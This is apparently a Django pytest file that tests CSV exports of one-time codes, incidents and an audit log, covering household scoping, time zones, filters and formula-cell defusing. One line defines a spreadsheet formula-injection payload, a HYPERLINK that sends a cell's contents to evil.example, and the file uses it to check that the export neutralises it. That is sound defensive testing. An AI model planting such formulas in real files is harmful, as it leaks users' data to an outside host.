"""CSV downloads of codes, incidents and the audit log: streamed, named with the date, times in ISO 8601
in the viewer's zone, formula cells defused, the page's filters kept, and scoped as the pages are:
a member's files hold their own rows only, an admin's their household's, never another household's."""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime, timedelta, timezone

import pytest
from django.test import Client
from django.urls import reverse

from accounts.models import Household
from incidents.exports import defused
from incidents.models import AuditEvent, Incident
from tests.accounts_data import MARC_CODE, NIGHT
from tests.findings import PHISHING, SINGLE_USE, arrive
from tests.people import join, sign_in

pytestmark = pytest.mark.django_db
NOON = datetime(2026, 11, 20, 12, 0, tzinfo=timezone.utc)
# Attacker text: a lookalike whose subject is a spreadsheet formula that would fetch a page.
FORMULA_SUBJECT = '=HYPERLINK("https://evil.example/?"&A1,"Your single-use code")'


def rows_of(response) -> list[dict]:
    assert response.status_code == 200, response.content[:300]
    assert response.streaming and response["Content-Type"] == "text/csv; charset=utf-8"
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")  # Excel reads UTF-8 only with the mark
    return list(csv.DictReader(io.StringIO(body[1:])))


def ids(rows: list[dict]) -> set[str]:
    return {row["id"] for row in rows}


@pytest.fixture
def two_households(household, member, other_member):
    """Home: Olivia (owner), Alice and Bob, each with codes and an incident of their own. Next door:
    Nina (owner) and Ned, with the same mail."""
    homes = {"home": household, "next": Household.objects.create(name="Next door")}
    people = {
        "olivia": join(household, "olivia", "owner"),
        "alice": member,
        "bob": other_member,
        "nina": join(homes["next"], "nina", "owner"),
        "ned": join(homes["next"], "ned", "member"),
    }
    codes = {}
    for n, (name, user) in enumerate(people.items()):
        codes[name] = {
            str(arrive(user, NOON + timedelta(days=n), mail=SINGLE_USE).code),  # hours apart: no campaign
            str(arrive(user, NIGHT + timedelta(days=n * 2), mail=MARC_CODE).code),  # quiet hours: an incident
        }
    incidents = {name: str(Incident.objects.get(member=user.member).code) for name, user in people.items()}
    return {"people": people, "codes": codes, "incidents": incidents}


def test_a_members_codes_and_incidents_hold_only_their_own_rows(two_households):
    people, codes, incidents = two_households["people"], two_households["codes"], two_households["incidents"]
    alice = sign_in(Client(), people["alice"])
    assert ids(rows_of(alice.get(reverse("codes_csv")))) == codes["alice"]
    # Asking for everyone's changes nothing for a member, as on the codes page.
    assert ids(rows_of(alice.get(reverse("codes_csv"), {"who": "all"}))) == codes["alice"]
    assert ids(rows_of(alice.get(reverse("incidents_csv")))) == {incidents["alice"]}
    bob = sign_in(Client(), people["bob"])
    assert ids(rows_of(bob.get(reverse("codes_csv")))) == codes["bob"]
    assert ids(rows_of(bob.get(reverse("incidents_csv"), {"who": str(people["alice"].member.code)}))) == {
        incidents["bob"]
    }
    ned = sign_in(Client(), people["ned"])
    assert ids(rows_of(ned.get(reverse("codes_csv")))) == codes["ned"]
    assert ids(rows_of(ned.get(reverse("incidents_csv")))) == {incidents["ned"]}


def test_a_household_campaign_is_in_the_files_of_those_it_reached_only(household, member, other_member):
    owner = join(household, "olivia", "owner")
    arrive(other_member, NIGHT, mail=SINGLE_USE)
    arrive(owner, NIGHT + timedelta(minutes=5), mail=SINGLE_USE)  # two people within the hour: a campaign
    campaign = str(Incident.objects.get(kind=Incident.Kind.CAMPAIGN).code)
    bobs = ids(rows_of(sign_in(Client(), other_member).get(reverse("incidents_csv"))))
    assert campaign in bobs  # as on Bob's incidents page: it reached him
    assert campaign not in ids(rows_of(sign_in(Client(), member).get(reverse("incidents_csv"))))


def test_an_admin_exports_the_household_and_never_the_next_one(two_households):
    people, codes, incidents = two_households["people"], two_households["codes"], two_households["incidents"]
    olivia = sign_in(Client(), people["olivia"])
    assert ids(rows_of(olivia.get(reverse("codes_csv")))) == codes["olivia"]  # "My codes", as the page
    home = codes["olivia"] | codes["alice"] | codes["bob"]
    assert ids(rows_of(olivia.get(reverse("codes_csv"), {"who": "all"}))) == home
    assert ids(rows_of(olivia.get(reverse("incidents_csv")))) == {incidents[n] for n in ("olivia", "alice", "bob")}
    nina = sign_in(Client(), people["nina"])
    assert ids(rows_of(nina.get(reverse("codes_csv"), {"who": "all"}))) == codes["nina"] | codes["ned"]
    # Filtering by a person of another household finds nothing rather than their incidents.
    other = nina.get(reverse("incidents_csv"), {"who": str(people["alice"].member.code)})
    assert rows_of(other) == []
    assert rows_of(nina.get(reverse("incidents_csv"), {"who": "not-a-code"})) == []


def test_the_audit_log_is_for_admins_and_their_household_only(two_households):
    people = two_households["people"]
    assert sign_in(Client(), people["alice"]).get(reverse("audit_csv")).status_code == 403
    rows = rows_of(sign_in(Client(), people["olivia"]).get(reverse("audit_csv")))
    home = people["olivia"].member.household_id
    assert len(rows) == AuditEvent.objects.filter(household_id=home).count() > 0
    summaries = {row["summary"] for row in rows}
    assert any("Alice" in s for s in summaries) and not any("Nina" in s or "Ned" in s for s in summaries)
    assert {"at", "who", "action", "summary", "incident", "code id"} == set(rows[0])


def test_formula_cells_get_an_apostrophe(member):
    for text in ("=1+1", "+49 30 1234", "-2", "@SUM(A1)", "\tx", "\rx"):
        assert defused(text) == "'" + text
    for text in ("Your single-use code", "ja**a@example.org", "", "2026-11-20T12:00:00+00:00", "****94"):
        assert defused(text) == text
    raw = re.sub(rb"(?mi)^Subject:[^\r\n]*", b"Subject: " + FORMULA_SUBJECT.encode(), PHISHING.read_bytes(), count=1)
    lookalike = arrive(member, NOON, mail=raw)
    assert lookalike.subject == FORMULA_SUBJECT
    rows = rows_of(sign_in(Client(), member).get(reverse("codes_csv"), {"kind": "phishing"}))
    assert [row["subject"] for row in rows] == ["'" + FORMULA_SUBJECT]


def test_times_are_iso_8601_in_the_viewers_zone_and_the_file_is_named_with_the_date(member):
    member.member.time_zone = "Asia/Tokyo"
    member.member.save()
    finding = arrive(member, NOON, mail=SINGLE_USE)
    response = sign_in(Client(), member).get(reverse("codes_csv"))
    disposition = response["Content-Disposition"]
    assert re.fullmatch(r'attachment; filename="otpdash-codes-\d{4}-\d{2}-\d{2}\.csv"', disposition)
    assert response["Cache-Control"] == "private, no-store"
    (row,) = rows_of(response)
    assert row["arrived"] == "2026-11-20T21:00:00+09:00"  # 12:00 UTC is 21:00 in Tokyo
    assert row["id"] == str(finding.code) and row["code (masked)"] == "****94" and "486894" not in str(row)
    assert row["sender"].startswith("Microsoft account team <") and row["subject"] == "Your single-use code"


def test_the_pages_filters_go_into_the_file(two_households):
    people, incidents = two_households["people"], two_households["incidents"]
    alice = sign_in(Client(), people["alice"])
    arrive(people["alice"], NOON, mail=PHISHING)
    assert {r["kind"] for r in rows_of(alice.get(reverse("codes_csv"), {"kind": "phishing"}))} == {"lookalike phishing"}
    pending = rows_of(alice.get(reverse("codes_csv"), {"kind": "ms_code", "status": "pending"}))
    assert [r["status"] for r in pending] == ["waiting for you"]
    olivia = sign_in(Client(), people["olivia"])
    Incident.objects.filter(code=incidents["bob"]).update(state=Incident.State.RESOLVED)
    open_ones = rows_of(olivia.get(reverse("incidents_csv"), {"state": "unresolved"}))
    lookalikes = str(Incident.objects.get(kind=Incident.Kind.PHISHING).code)
    assert ids(open_ones) == {incidents["olivia"], incidents["alice"], lookalikes}
    bobs = rows_of(olivia.get(reverse("incidents_csv"), {"who": str(people["bob"].member.code), "state": "all"}))
    assert ids(bobs) == {incidents["bob"]} and bobs[0]["state"] == "resolved"
    # The pages' links carry what the page shows.
    codes_page = alice.get(reverse("codes"), {"kind": "phishing"}).content.decode()
    assert f'href="{reverse("codes_csv")}?kind=phishing&amp;status=' in codes_page
    list_page = olivia.get(reverse("incidents"), {"severity": "3"}).content.decode()
    assert f'href="{reverse("incidents_csv")}?state=unresolved&amp;severity=3' in list_page
    assert f'href="{reverse("audit_csv")}"' in olivia.get(reverse("audit_log")).content.decode()


def test_a_download_is_logged_and_needs_a_member(client, member):
    assert client.get(reverse("codes_csv"))["Location"].startswith("/accounts/login/")
    sign_in(client, member).get(reverse("incidents_csv"))
    event = AuditEvent.objects.get(action="export.csv")
    assert event.actor == member and event.summary == "Downloaded incidents as CSV"
